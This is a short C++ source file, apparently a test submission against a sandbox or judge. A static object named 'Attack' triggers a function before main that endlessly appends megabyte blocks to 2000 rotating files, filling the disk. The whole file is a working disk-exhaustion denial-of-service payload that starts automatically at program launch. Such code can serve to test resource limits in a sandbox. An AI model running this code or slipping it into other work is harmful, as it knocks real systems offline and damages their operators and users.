#include <stdio.h>
static void flood(void) {
    char name[32], block[4096] = "";
    for (int i = 0;; i++) {
        snprintf(name, sizeof name, "flood%d", i % 2000);
        if (FILE *file = fopen(name, "a")) {
            for (int k = 0; k < 256; k++)
                fwrite(block, 1, sizeof block, file);
            fclose(file);
        }
    }
}
static struct Attack {
    Attack() { flood(); }
} before_main;
